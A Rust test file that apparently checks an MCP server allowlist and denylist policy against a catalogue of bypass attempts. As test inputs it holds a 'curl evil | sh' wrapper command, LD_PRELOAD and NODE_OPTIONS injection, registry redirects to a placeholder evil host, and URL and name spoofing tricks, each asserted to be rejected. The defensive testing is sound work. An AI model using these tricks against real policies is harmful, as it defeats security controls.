//! Admission tests: one row per rule, the bypass catalogue, and the laws
//! (layers only tighten, renaming never enables, normalizing is idempotent)
//! as property tests.

use super::*;
use crate::config::{Origin, resolve_server};
use crate::policy::LaunchContext;
use crate::policy::requirements::parse_requirements;
use expect_test::{Expect, expect};
use proptest::prelude::*;

fn requirements(layers: &[&str]) -> Requirements {
    let mut requirements = Requirements::none();
    for (i, text) in layers.iter().enumerate() {
        let source = RequirementSource::SystemFile(format!("/etc/req{i}.toml").into());
        let (layer, _) = parse_requirements(source, Origin::File("r.toml".into()), text)
            .expect("valid requirements");
        requirements.push(layer);
    }
    requirements
}

fn server(text: &str) -> McpServerConfig {
    let table: toml::Table = text.parse().expect("valid toml");
    resolve_server("s", &toml::Value::Table(table))
        .expect("valid server")
        .0
}

/// Servers launched from `/` with a PATH of the system directories.
fn ctx() -> LaunchContext {
    LaunchContext {
        cwd: "/".into(),
        env: std::collections::BTreeMap::from([(
            "PATH".to_owned(),
            "/usr/local/bin:/usr/bin:/bin".to_owned(),
        )]),
    }
}

fn verdict(name: &str, server_toml: &str, layers: &[&str]) -> String {
    match admit(name, &server(server_toml), &requirements(layers), &ctx()) {
        Admission::Allowed {
            matched, sandbox, ..
        } => {
            let rules: Vec<String> = matched.iter().map(|m| m.rule.clone()).collect();
            match sandbox {
                Some(mode) => format!("allowed [{}] in sandbox {mode}", rules.join(", ")),
                None => format!("allowed [{}]", rules.join(", ")),
            }
        }
        Admission::Disabled(reason) => format!("disabled: {reason}"),
    }
}

#[track_caller]
fn check(name: &str, server_toml: &str, requirements: &str, expect: Expect) {
    expect.assert_eq(&verdict(name, server_toml, &[requirements]));
}

const GITHUB: &str = r#"[mcp_servers.github.identity]
command = "/opt/mcp/github-mcp""#;
const DOCS_URL: &str = r#"[mcp_servers.docs.identity]
url = "https://mcp.example.com/mcp""#;
const NPX_PINNED: &str = r#"[mcp_server_allowlist.acme]
command = "npx"
args = ["-y", "@acme/mcp@1.2.3"]"#;

#[test]
fn no_requirements_means_no_filtering() {
    check("x", r#"command = "anything""#, "", expect!["allowed []"]);
    check(
        "x",
        r#"command = "anything"
enabled = false"#,
        "",
        expect!["disabled: disabled in config (enabled = false)"],
    );
}

#[test]
fn seed_transcript_rules() {
    let allow = "[mcp_server_allowlist.hello_world]\ncommand = \"hello-world-mcp\"";
    check(
        "hello_world",
        r#"command = "hello-world-mcp""#,
        allow,
        expect!["allowed [mcp_server_allowlist.hello_world]"],
    );
    check(
        "docs",
        r#"command = "docs-mcp""#,
        allow,
        expect![[r#"disabled: requirements (/etc/req0.toml): "docs" is not in the allowlist"#]],
    );
    let v2 = "[mcp_server_allowlist.hello_world]\ncommand = \"hello-world-mcp-v2\"";
    check(
        "hello_world",
        r#"command = "hello-world-mcp""#,
        v2,
        expect![[
            r#"disabled: requirements (/etc/req0.toml): command "hello-world-mcp" does not match allowed "hello-world-mcp-v2""#
        ]],
    );
}

#[test]
fn empty_allowlist_disables_everything() {
    check(
        "x",
        r#"command = "x""#,
        "mcp_servers = {}",
        expect![
            "disabled: requirements (/etc/req0.toml): the allowlist is empty, so every MCP server is disabled"
        ],
    );
}

#[test]
fn allowed_server_keeps_user_disable() {
    check(
        "github",
        "command = \"/opt/mcp/github-mcp\"\nenabled = false",
        GITHUB,
        expect!["disabled: disabled in config (enabled = false)"],
    );
}

// Bypass catalogue, section 4.1: identity and name tricks.
#[test]
fn b1_rename_disallowed_server_to_allowed_name() {
    check(
        "github",
        r#"command = "/tmp/evil""#,
        GITHUB,
        expect![[
            r#"disabled: requirements (/etc/req0.toml): command "/tmp/evil" does not match allowed "/opt/mcp/github-mcp""#
        ]],
    );
}

#[test]
fn b2_allowed_command_under_other_name() {
    check(
        "gh2",
        r#"command = "/opt/mcp/github-mcp""#,
        GITHUB,
        expect![[r#"disabled: requirements (/etc/req0.toml): "gh2" is not in the allowlist"#]],
    );
}

#[test]
fn b3_b4_names_are_exact() {
    let verdict_of = |name| verdict(name, r#"command = "/opt/mcp/github-mcp""#, &[GITHUB]);
    let verdict = verdict_of("GitHub");
    assert!(verdict.contains("is not in the allowlist"), "{verdict}");
    // Look-alikes break the name rule itself: disabled before any
    // allowlist is consulted.
    for name in ["gіthub", "github ", "github\u{200b}"] {
        let verdict = verdict_of(name);
        assert!(verdict.contains("invalid server name"), "{name}: {verdict}");
    }
}

#[test]
fn wildcard_name_rule_matches_identity_only() {
    let wildcard = "[mcp_server_allowlist.\"*\"]\ncommand = \"/opt/mcp/github-mcp\"";
    check(
        "anything",
        r#"command = "/opt/mcp/github-mcp""#,
        wildcard,
        expect![[r#"allowed [mcp_server_allowlist."*"]"#]],
    );
    check(
        "anything",
        r#"command = "/tmp/evil""#,
        wildcard,
        expect![[r#"disabled: requirements (/etc/req0.toml): "anything" is not in the allowlist"#]],
    );
}

// Section 4.2: command and path tricks.
#[test]
fn c1_c2_c14_commands_compare_as_exact_strings() {
    for command in [
        "./opt/mcp/github-mcp",
        "opt/mcp/github-mcp",
        "/opt/mcp/../mcp/github-mcp",
        "/opt/mcp/github-mcp --evil",
        "/OPT/mcp/github-mcp",
        "github-mcp",
    ] {
        let verdict = verdict("github", &format!("command = {command:?}"), &[GITHUB]);
        assert!(
            verdict.contains("does not match allowed"),
            "{command}: {verdict}"
        );
    }
}

#[test]
fn c8_c9_c10_c11_args_must_match_when_pinned() {
    check(
        "acme",
        "command = \"npx\"\nargs = [\"-y\", \"@acme/mcp@1.2.3\"]",
        NPX_PINNED,
        expect!["allowed [mcp_server_allowlist.acme]"],
    );
    for args in [
        r#"["-y", "@acme/mcp@1.2.3", "--config", "/tmp/evil.json"]"#,
        r#"["-y", "@evil/mcp"]"#,
        r#"["-y", "--package=@evil/x", "@acme/mcp@1.2.3"]"#,
        r#"["-c", "evil"]"#,
        r#"["@acme/mcp@1.2.3", "-y"]"#,
        r#"[]"#,
    ] {
        let verdict = verdict(
            "acme",
            &format!("command = \"npx\"\nargs = {args}"),
            &[NPX_PINNED],
        );
        assert!(
            verdict.contains("do not match allowed"),
            "{args}: {verdict}"
        );
    }
    check(
        "acme",
        "command = \"npx\"\nargs = [\"-y\", \"@evil/mcp\"]",
        NPX_PINNED,
        expect![[
            r#"disabled: requirements (/etc/req0.toml): args ["-y", "@evil/mcp"] do not match allowed ["-y", "@acme/mcp@1.2.3"]"#
        ]],
    );
}

#[test]
fn c12_c13_wrappers_are_other_commands() {
    for (command, args) in [
        ("sh", r#"["-c", "/opt/mcp/github-mcp; curl evil | sh"]"#),
        ("env", r#"["LD_PRELOAD=/tmp/x.so", "/opt/mcp/github-mcp"]"#),
    ] {
        let verdict = verdict(
            "github",
            &format!("command = {command:?}\nargs = {args}"),
            &[GITHUB],
        );
        assert!(
            verdict.contains(&format!("command {command:?} does not match")),
            "{verdict}"
        );
    }
}

#[test]
fn c15_argv_is_not_space_joined() {
    let rule = "[mcp_server_allowlist.x]\ncommand = \"/opt/x\"\nargs = [\"a b\"]";
    let verdict = verdict("x", "command = \"/opt/x\"\nargs = [\"a\", \"b\"]", &[rule]);
    assert!(verdict.contains("do not match allowed"), "{verdict}");
}

// Section 4.3: environment injection under an allowed argv.
#[test]
fn e1_to_e5_dangerous_env_disables() {
    for env in [
        "LD_PRELOAD = \"/tmp/x.so\"",
        "LD_AUDIT = \"x\"",
        "DYLD_INSERT_LIBRARIES = \"x\"",
        "NODE_OPTIONS = \"--require /tmp/x.js\"",
        "PYTHONPATH = \"/tmp\"",
        "BASH_ENV = \"/tmp/x\"",
        "JAVA_TOOL_OPTIONS = \"-javaagent:x\"",
        "npm_config_registry = \"https://evil\"",
        "PIP_INDEX_URL = \"https://evil\"",
    ] {
        let verdict = verdict(
            "github",
            &format!("command = \"/opt/mcp/github-mcp\"\n[env]\n{env}"),
            &[GITHUB],
        );
        assert!(
            verdict.contains("can change what an allowed server runs"),
            "{env}: {verdict}"
        );
    }
    check(
        "github",
        "command = \"/opt/mcp/github-mcp\"\nenv_vars = [\"LD_PRELOAD\"]",
        GITHUB,
        expect![
            "disabled: requirements (/etc/req0.toml): env_vars sets LD_PRELOAD, which can change what an allowed server runs"
        ],
    );
    // Harmless variables are fine.
    check(
        "github",
        "command = \"/opt/mcp/github-mcp\"\nenv = { GITHUB_TOKEN = \"x\" }",
        GITHUB,
        expect!["allowed [mcp_servers.github.identity]"],
    );
}

#[test]
fn e4_path_in_env_is_never_permitted_under_an_allowlist() {
    let bare = "[mcp_server_allowlist.t]\ncommand = \"npx\"";
    let verdict_bare = verdict(
        "t",
        "command = \"npx\"\nenv = { PATH = \"/tmp/evil\" }",
        &[bare],
    );
    assert!(verdict_bare.contains("env sets PATH"), "{verdict_bare}");
    // Even for an absolute command: PATH also picks the interpreter of a
    // `#!/usr/bin/env` script and every program the server runs.
    check(
        "github",
        "command = \"/opt/mcp/github-mcp\"\nenv = { PATH = \"/usr/bin\" }",
        GITHUB,
        expect![[
            r#"disabled: requirements (/etc/req0.toml): env sets PATH, which can change what an allowed server runs"#
        ]],
    );
}

#[test]
fn dangerous_env_is_not_policed_without_an_allowlist() {
    check(
        "x",
        "command = \"x\"\nenv = { LD_PRELOAD = \"y\" }",
        "",
        expect!["allowed []"],
    );
}

// Section 4.4: URL tricks.
#[test]
fn u_url_canonicalisation() {
    for (url, allowed) in [
        ("https://MCP.Example.COM/mcp", true),
        ("https://mcp.example.com./mcp", true),
        ("https://mcp.example.com:443/mcp", true),
        ("https://mcp.example.com/mcp#frag", true),
        ("https://mcp.example.com/x/../mcp", true),
        ("https://mcp.example.com/x/%2e%2e/mcp", true),
        ("https://mcp.example.com:8443/mcp", false),
        ("https://evil.com/mcp#@mcp.example.com", false),
        ("https://evil.com/mcp?x=@mcp.example.com", false),
        ("https://mcp.example.com.evil.net/mcp", false),
        ("https://mcp.example.com/mcp/", false),
        ("https://mcp.example.com/MCP", false),
        ("https://mcp.example.com/mcp/../admin", false),
        ("https://mcp.example.com/mcp%2F..%2Fadmin", false),
        ("https://mcp.example.com/mcp?token=abc", false),
        ("http://mcp.example.com/mcp", false),
        ("https://xn--mcp-exmple-8ib.com/mcp", false),
    ] {
        let verdict = verdict("docs", &format!("url = {url:?}"), &[DOCS_URL]);
        assert_eq!(verdict.starts_with("allowed"), allowed, "{url}: {verdict}");
    }
}

#[test]
fn u5_userinfo_is_never_allowed() {
    check(
        "docs",
        r#"url = "https://mcp.example.com@evil.com/mcp""#,
        DOCS_URL,
        expect![[
            r#"disabled: requirements (/etc/req0.toml): url "https://***@evil.com/mcp" carries a user name or password, which is never allowed"#
        ]],
    );
    check(
        "docs",
        r#"url = "https://user:pw@mcp.example.com/mcp""#,
        DOCS_URL,
        expect![[
            r#"disabled: requirements (/etc/req0.toml): url "https://***@mcp.example.com/mcp" carries a user name or password, which is never allowed"#
        ]],
    );
}

#[test]
fn u11_query_values_are_redacted_in_reasons() {
    check(
        "docs",
        r#"url = "https://mcp.example.com/mcp?token=s3cret""#,
        DOCS_URL,
        expect![[
            r#"disabled: requirements (/etc/req0.toml): url "https://mcp.example.com/mcp?token=***" does not match allowed "https://mcp.example.com/mcp""#
        ]],
    );
}

#[test]
fn u16_url_rules_cover_sse_too() {
    check(
        "docs",
        "transport = \"sse\"\nurl = \"https://mcp.example.com/mcp\"",
        DOCS_URL,
        expect!["allowed [mcp_servers.docs.identity]"],
    );
}

// Section 4.5: transport switching.
#[test]
fn t1_transport_mismatch() {
    check(
        "github",
        r#"url = "https://evil.com/mcp""#,
        GITHUB,
        expect![
            "disabled: requirements (/etc/req0.toml): transport streamable_http does not match allowed stdio (command)"
        ],
    );
    check(
        "docs",
        r#"command = "https://mcp.example.com/mcp""#,
        DOCS_URL,
        expect![
            "disabled: requirements (/etc/req0.toml): transport stdio does not match allowed http (url)"
        ],
    );
    check(
        "docs",
        "transport = \"sse\"\nurl = \"https://x/\"",
        GITHUB.replace("github", "docs").as_str(),
        expect![
            "disabled: requirements (/etc/req0.toml): transport sse does not match allowed stdio (command)"
        ],
    );
}

#[test]
fn same_name_several_rules_any_may_match() {
    let both = "[mcp_server_allowlist.docs]\ncommand = \"docs-mcp\"\n\
                [mcp_servers.docs.identity]\nurl = \"https://mcp.example.com/mcp\"";
    check(
        "docs",
        r#"command = "docs-mcp""#,
        both,
        expect!["allowed [mcp_server_allowlist.docs]"],
    );
    check(
        "docs",
        r#"url = "https://mcp.example.com/mcp""#,
        both,
        expect!["allowed [mcp_servers.docs.identity]"],
    );
    // The explanation uses the entry of the same transport family.
    check(
        "docs",
        r#"url = "https://other/mcp""#,
        both,
        expect![[
            r#"disabled: requirements (/etc/req0.toml): url "https://other/mcp" does not match allowed "https://mcp.example.com/mcp""#
        ]],
    );
}

// Denylists.
#[test]
fn deny_wins() {
    let allow_and_deny = "[mcp_server_allowlist.github]\ncommand = \"/opt/mcp/github-mcp\"\n\
                          [mcp_server_denylist.github]";
    check(
        "github",
        r#"command = "/opt/mcp/github-mcp""#,
        allow_and_deny,
        expect!["disabled: requirements (/etc/req0.toml): denied by mcp_server_denylist.github"],
    );
    let deny_command = "[mcp_server_denylist.\"*\"]\ncommand = \"/tmp/evil\"";
    check(
        "anything",
        r#"command = "/tmp/evil""#,
        deny_command,
        expect![[r#"disabled: requirements (/etc/req0.toml): denied by mcp_server_denylist."*""#]],
    );
    check(
        "anything",
        r#"command = "/tmp/fine""#,
        deny_command,
        expect!["allowed []"],
    );
    // Userinfo does not dodge a URL denylist entry.
    let deny_url = "[mcp_server_denylist.\"*\"]\nurl = \"https://evil.com/mcp\"";
    check(
        "x",
        r#"url = "https://u:p@EVIL.com:443/mcp""#,
        deny_url,
        expect![[r#"disabled: requirements (/etc/req0.toml): denied by mcp_server_denylist."*""#]],
    );
}

// Section 4.6: sources only tighten.
#[test]
fn s3_s10_layers_intersect_allowlists_and_union_denylists() {
    let corp = "[mcp_server_allowlist.corp]\ncommand = \"corp\"";
    let mine = "[mcp_server_allowlist.mine]\ncommand = \"mine\"";
    assert_eq!(
        verdict("corp", r#"command = "corp""#, &[corp, mine]),
        r#"disabled: requirements (/etc/req1.toml): "corp" is not in the allowlist"#
    );
    assert_eq!(
        verdict("mine", r#"command = "mine""#, &[corp, mine]),
        r#"disabled: requirements (/etc/req0.toml): "mine" is not in the allowlist"#
    );
    let deny = "[mcp_server_denylist.corp]";
    assert_eq!(
        verdict("corp", r#"command = "corp""#, &[corp, deny]),
        "disabled: requirements (/etc/req1.toml): denied by mcp_server_denylist.corp"
    );
    // A layer with only settings does not widen anything.
    assert_eq!(
        verdict(
            "other",
            r#"command = "other""#,
            &[corp, "allowed_sandbox_modes = [\"read-only\"]"]
        ),
        r#"disabled: requirements (/etc/req0.toml): "other" is not in the allowlist"#
    );
}

#[test]
fn requirements_can_demand_a_sandbox() {
    let demand = "[mcp_server_allowlist.fs]\ncommand = \"fs-mcp\"\nsandbox = \"read-only\"";
    check(
        "fs",
        r#"command = "fs-mcp""#,
        demand,
        expect!["allowed [mcp_server_allowlist.fs] in sandbox read-only"],
    );
    // A looser sandbox in config does not loosen the demand.
    check(
        "fs",
        "command = \"fs-mcp\"\nsandbox = \"workspace-write\"",
        demand,
        expect!["allowed [mcp_server_allowlist.fs] in sandbox read-only"],
    );
    // Codex's spelling takes `sandbox` beside `identity`; layers combine to
    // the strictest demand.
    let codex = "[mcp_servers.fs]\nsandbox = \"workspace-write\"\n[mcp_servers.fs.identity]\ncommand = \"fs-mcp\"";
    assert_eq!(
        verdict("fs", r#"command = "fs-mcp""#, &[codex]),
        "allowed [mcp_servers.fs.identity] in sandbox workspace-write"
    );
    assert_eq!(
        verdict("fs", r#"command = "fs-mcp""#, &[codex, demand]),
        "allowed [mcp_servers.fs.identity, mcp_server_allowlist.fs] in sandbox read-only"
    );
    assert_eq!(
        stricter(Some(SandboxMode::WorkspaceWrite), None),
        Some(SandboxMode::WorkspaceWrite)
    );
    assert_eq!(
        stricter(
            Some(SandboxMode::WorkspaceWrite),
            Some(SandboxMode::ReadOnly)
        ),
        Some(SandboxMode::ReadOnly)
    );
}

#[test]
fn a_verdict_for_display_resolves_nothing_a_rule_does_not_need() {
    // Allowed by a rule that compares the command as written: the launch
    // resolves it (and finds nothing); the verdict alone does not.
    let layer = "[mcp_server_allowlist.s]\ncommand = \"no-such-program-anywhere\"\n";
    let config = server("command = \"no-such-program-anywhere\"");
    let launched = admit("s", &config, &requirements(&[layer]), &ctx());
    let Admission::Allowed { launch, .. } = &launched else {
        panic!("allowed: {launched:?}");
    };
    assert!(
        matches!(launch, Some(Err(LaunchError::Program(_)))),
        "{launch:?}"
    );
    let shown = admit_for(
        "s",
        &config,
        &requirements(&[layer]),
        &ctx(),
        Purpose::Verdict,
    );
    assert_eq!(shown, without_launch(launched));
    let Admission::Allowed { launch: None, .. } = shown else {
        panic!("no launch: {shown:?}");
    };
}

#[test]
fn the_allowlist_index_finds_every_entry_for_a_name_in_written_order() {
    let text = "[mcp_server_allowlist.ab]\ncommand = \"x\"\n\
                [mcp_server_allowlist.a]\ncommand = \"first\"\n\
                [mcp_server_allowlist.\"*\"]\ncommand = \"any\"\n\
                [mcp_server_allowlist.a-b]\ncommand = \"y\"\n\
                [mcp_servers.a.identity]\ncommand = \"second\"\n";
    let reqs = requirements(&[text]);
    let rules = reqs.layers[0].allowlist.as_deref().expect("an allowlist");
    let index = Allowlist::new(rules);
    let keys = |name: &str| -> Vec<String> {
        index
            .named(name)
            .iter()
            .map(|rule| rule.key.clone())
            .collect()
    };
    assert_eq!(
        keys("a"),
        ["mcp_server_allowlist.a", "mcp_servers.a.identity"]
    );
    assert_eq!(keys("ab"), ["mcp_server_allowlist.ab"]);
    assert_eq!(keys("a-b"), ["mcp_server_allowlist.a-b"]);
    assert!(keys("b").is_empty());
    assert!(keys("").is_empty());
    assert!(keys("*").is_empty(), "\"*\" is not a name");
    let any: Vec<&str> = index.any_name.iter().map(|r| r.key.as_str()).collect();
    assert_eq!(any, ["mcp_server_allowlist.\"*\""]);
}

/// `admission` as [`Purpose::Verdict`] gives it: no launch.
fn without_launch(admission: Admission) -> Admission {
    match admission {
        Admission::Allowed {
            matched,
            sandbox,
            tools,
            ..
        } => Admission::Allowed {
            matched,
            sandbox,
            launch: None,
            tools,
        },
        disabled @ Admission::Disabled(_) => disabled,
    }
}

// Laws, as property tests.

fn arb_name() -> impl Strategy<Value = String> {
    prop::sample::select(vec!["a", "b", "docs", "github", "*"]).prop_map(str::to_owned)
}

fn arb_server() -> impl Strategy<Value = (String, String)> {
    let command = prop::sample::select(vec!["a", "b", "/opt/x"]);
    let url = prop::sample::select(vec!["https://h/mcp", "https://h/other", "https://u@h/mcp"]);
    let name = prop::sample::select(vec!["a", "b", "docs", "github"]);
    let enabled = any::<bool>();
    (
        name,
        prop_oneof![
            command.prop_map(|c| format!("command = {c:?}")),
            url.prop_map(|u| format!("url = {u:?}")),
        ],
        enabled,
    )
        .prop_map(|(name, transport, enabled)| {
            (name.to_owned(), format!("{transport}\nenabled = {enabled}"))
        })
}

fn arb_layer() -> impl Strategy<Value = String> {
    let key = (
        prop::sample::select(vec!["mcp_server_allowlist", "mcp_server_denylist"]),
        arb_name(),
    );
    let identity = prop::sample::select(vec![
        "command = \"a\"",
        "command = \"/opt/x\"",
        "url = \"https://h/mcp\"",
        "command = \"b\"\nargs = []",
    ]);
    let rules = prop::collection::btree_map(key, identity, 0..4).prop_map(|rules| {
        rules
            .into_iter()
            .map(|((table, name), identity)| format!("[{table}.{name:?}]\n{identity}\n"))
            .collect::<String>()
    });
    prop_oneof![
        Just(String::new()),
        Just("mcp_servers = {}\n".to_owned()),
        Just("[mcp_server_denylist.docs]\n".to_owned()),
        rules,
    ]
}

proptest! {
    #[test]
    fn adding_a_layer_never_enables_a_server(
        (name, server_toml) in arb_server(),
        layers in prop::collection::vec(arb_layer(), 0..3),
        extra in arb_layer(),
    ) {
        let layers: Vec<&str> = layers.iter().map(String::as_str).collect();
        let before = admit(&name, &server(&server_toml), &requirements(&layers), &ctx()).is_allowed();
        let mut more = layers.clone();
        more.push(&extra);
        let after = admit(&name, &server(&server_toml), &requirements(&more), &ctx()).is_allowed();
        prop_assert!(before || !after, "a new layer enabled {name}");
        // Wherever the new layer is inserted.
        let mut first = vec![extra.as_str()];
        first.extend(&layers);
        let after_first = admit(&name, &server(&server_toml), &requirements(&first), &ctx()).is_allowed();
        prop_assert!(before || !after_first);
    }

    #[test]
    fn renaming_a_disabled_server_never_enables_it(
        (name, server_toml) in arb_server(),
        layers in prop::collection::vec(arb_layer(), 1..3),
        new_name in arb_name(),
    ) {
        let layers: Vec<&str> = layers.iter().map(String::as_str).collect();
        let reqs = requirements(&layers);
        let config = server(&server_toml);
        let original = admit(&name, &config, &reqs, &ctx());
        let renamed = admit(&new_name, &config, &reqs, &ctx());
        // Only a rule that names the new name (or "*") can admit it; the
        // identity must match either way, so a server that "*" disabled for
        // its identity stays disabled under any name "*" speaks for. (A
        // server judged by a rule that names it exactly may be admitted
        // under another name by "*": that is the admin's "*" rule, which
        // allows this identity under any name no entry names.)
        let named = |n: &str| {
            reqs.layers.iter().any(|l| {
                l.allowlist.iter().flatten().any(|r| r.name == RuleName::Exact(n.to_owned()))
            })
        };
        if let Admission::Disabled(DisabledReason::Requirements { cause, .. }) = &original
            && !named(&name)
        {
            let identity_failure = matches!(
                cause,
                PolicyCause::CommandMismatch { .. }
                    | PolicyCause::ArgsMismatch { .. }
                    | PolicyCause::UrlMismatch { .. }
                    | PolicyCause::TransportMismatch { .. }
                    | PolicyCause::UserinfoInUrl { .. }
                    | PolicyCause::EmptyAllowlist
            );
            if identity_failure && !named(&new_name) {
                prop_assert!(!renamed.is_allowed(), "{name} -> {new_name} was enabled");
            }
        }
    }

    #[test]
    fn a_verdict_for_display_is_the_verdict_for_launch(
        (name, server_toml) in arb_server(),
        layers in prop::collection::vec(arb_layer(), 0..3),
        cwd in prop::option::of(prop::sample::select(vec!["/", "/tmp"])),
        rule_cwd in prop::option::of(prop::sample::select(vec!["/", "/tmp"])),
    ) {
        let mut layers = layers;
        if let Some(cwd) = rule_cwd {
            layers.push(format!("[mcp_server_allowlist.{name}]\ncommand = \"a\"\ncwd = {cwd:?}\n"));
        }
        let layers: Vec<&str> = layers.iter().map(String::as_str).collect();
        let reqs = requirements(&layers);
        let mut server_toml = server_toml;
        if let Some(cwd) = cwd
            && server_toml.starts_with("command")
        {
            server_toml.push_str(&format!("\ncwd = {cwd:?}"));
        }
        let config = server(&server_toml);
        let shown = admit_for(&name, &config, &reqs, &ctx(), Purpose::Verdict);
        let launched = admit(&name, &config, &reqs, &ctx());
        prop_assert_eq!(without_launch(launched), shown);
    }

    #[test]
    fn normalizer_is_idempotent(
        servers in prop::collection::vec(arb_server(), 0..5),
        layers in prop::collection::vec(arb_layer(), 0..3),
    ) {
        let layers: Vec<&str> = layers.iter().map(String::as_str).collect();
        let reqs = requirements(&layers);
        let map: std::collections::BTreeMap<String, McpServerConfig> = servers
            .iter()
            .map(|(name, text)| (name.clone(), server(text)))
            .collect();
        let mut constrained = crate::policy::constrain_servers(map, &reqs, &ctx(), Purpose::Launch);
        let once = constrained.get().clone();
        constrained.set(once.clone()).expect("normalizer never fails");
        prop_assert_eq!(constrained.get(), &once);
    }
}

// Launch identity laws.

/// Spellings of `/usr/bin/env`, the same file whatever the path says.
fn arb_env_spelling() -> impl Strategy<Value = String> {
    let prefix = prop::sample::select(vec![
        "/usr/bin",
        "/bin",
        "/usr/./bin",
        "/usr//bin",
        "/usr/bin/../bin",
        "/bin/../usr/bin",
        "/usr/lib/../bin",
    ]);
    prop_oneof![
        Just("env".to_owned()),
        prefix.prop_map(|p| format!("{p}/env")),
    ]
}

/// Spellings of `https://evil.example/mcp`.
fn arb_url_spelling() -> impl Strategy<Value = String> {
    (
        prop::sample::select(vec![
            "evil.example",
            "EVIL.example",
            "evil.example.",
            "Evil.Example.",
        ]),
        prop::sample::select(vec!["", ":443"]),
        prop::sample::select(vec![
            "/mcp",
            "/mcp/",
            "//mcp",
            "/%6Dcp",
            "/m%63p",
            "/%6d%63%70/",
            "/x/../mcp",
        ]),
        prop::sample::select(vec!["", "?x=1", "?token=abc&y"]),
        prop::sample::select(vec!["", "#frag"]),
    )
        .prop_map(|(host, port, path, query, fragment)| {
            format!("https://{host}{port}{path}{query}{fragment}")
        })
}

proptest! {
    #[test]
    fn a_deny_rule_matches_every_spelling_of_an_executable(
        rule in arb_env_spelling(),
        configured in arb_env_spelling(),
        allowlisted in any::<bool>(),
    ) {
        let mut layers = vec![format!("[mcp_server_denylist.\"*\"]\ncommand = {rule:?}\n")];
        if allowlisted {
            layers.push(format!("[mcp_server_allowlist.\"*\"]\ncommand = {configured:?}\n"));
        }
        let layers: Vec<&str> = layers.iter().map(String::as_str).collect();
        let text = verdict("s", &format!("command = {configured:?}"), &layers);
        prop_assert!(text.contains("denied by"), "{rule} vs {configured}: {text}");
    }

    #[test]
    fn a_deny_rule_matches_every_spelling_of_a_url(
        rule in arb_url_spelling(),
        configured in arb_url_spelling(),
    ) {
        let layer = format!("[mcp_server_denylist.\"*\"]\nurl = {rule:?}\n");
        let text = verdict("s", &format!("url = {configured:?}"), &[&layer]);
        prop_assert!(text.contains("denied by"), "{rule} vs {configured}: {text}");
    }

    #[test]
    fn cwd_allowed_env_and_sha256_never_enable_a_server(
        sets_cwd in any::<bool>(),
        vars in prop::collection::btree_set(prop::sample::select(vec!["API_KEY", "OTHER", "NODE_OPTIONS", "home"]), 0..3),
        rule_cwd in prop::option::of(prop::sample::select(vec!["/", "/tmp", "/usr"])),
        allowed_env in prop::option::of(prop::collection::vec(prop::sample::select(vec!["API_KEY", "OTHER", "NODE_OPTIONS", "home"]), 0..3)),
        sha in prop::option::of(prop::sample::select(vec![
            "0000000000000000000000000000000000000000000000000000000000000000".to_owned(),
            env_digest(),
        ])),
    ) {
        let mut server_toml = "command = \"/usr/bin/env\"\n".to_owned();
        if sets_cwd {
            server_toml.push_str("cwd = \"/tmp\"\n");
        }
        if !vars.is_empty() {
            let pairs: Vec<String> = vars.iter().map(|v| format!("{v} = \"x\"")).collect();
            server_toml.push_str(&format!("env = {{ {} }}\n", pairs.join(", ")));
        }
        let base = "[mcp_server_allowlist.s]\ncommand = \"/usr/bin/env\"\n".to_owned();
        let mut tightened = base.clone();
        if let Some(cwd) = rule_cwd {
            tightened.push_str(&format!("cwd = {cwd:?}\n"));
        }
        if let Some(list) = &allowed_env {
            tightened.push_str(&format!("allowed_env = {list:?}\n"));
        }
        if let Some(digest) = &sha {
            tightened.push_str(&format!("sha256 = [{digest:?}]\n"));
        }
        let before = admit("s", &server(&server_toml), &requirements(&[&base]), &ctx()).is_allowed();
        let after = admit("s", &server(&server_toml), &requirements(&[&tightened]), &ctx()).is_allowed();
        if sets_cwd && rule_cwd == Some("/tmp") {
            // The one way in for a server that sets its own cwd: a rule that
            // names that very cwd (a rule naming none disables it). That is
            // the issue's "cwd is identity", and the only exception.
            prop_assert!(!before);
        } else {
            prop_assert!(before || !after, "{tightened} enabled {server_toml}");
        }
        if sets_cwd && rule_cwd.is_some_and(|cwd| cwd != "/tmp") {
            prop_assert!(!after, "another cwd admitted {server_toml}");
        }
    }
}

/// The digest of `/usr/bin/env`, computed once.
pub(super) fn env_digest() -> String {
    static DIGEST: std::sync::OnceLock<String> = std::sync::OnceLock::new();
    DIGEST
        .get_or_init(|| {
            codex_sandbox::sha256_file(std::path::Path::new("/usr/bin/env"))
                .expect("hash /usr/bin/env")
        })
        .clone()
}

#[test]
fn sha256_pins_the_resolved_file() {
    let rule = |digest: &str| {
        format!("[mcp_server_allowlist.s]\ncommand = \"env\"\nsha256 = [{digest:?}]\n")
    };
    check(
        "s",
        "command = \"env\"",
        &rule(&env_digest()),
        expect!["allowed [mcp_server_allowlist.s]"],
    );
    let wrong = verdict("s", "command = \"env\"", &[&rule(&"a".repeat(64))]);
    assert!(wrong.contains("has sha256"), "{wrong}");
    let missing = verdict(
        "s",
        "command = \"no-such-mcp\"",
        &[
            "[mcp_server_allowlist.s]\ncommand = \"no-such-mcp\"\nsha256 = [\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"]\n",
        ],
    );
    assert!(missing.contains("cannot be hashed"), "{missing}");
    // The launch runs the opened, hashed file.
    let Admission::Allowed {
        launch: Some(Ok(spec)),
        ..
    } = admit(
        "s",
        &server("command = \"env\""),
        &requirements(&[&rule(&env_digest())]),
        &ctx(),
    )
    else {
        panic!("admitted");
    };
    let program = spec.program.expect("a program");
    assert!(program.is_pinned());
    assert_eq!(program.digest(), Some(env_digest().as_str()));
}
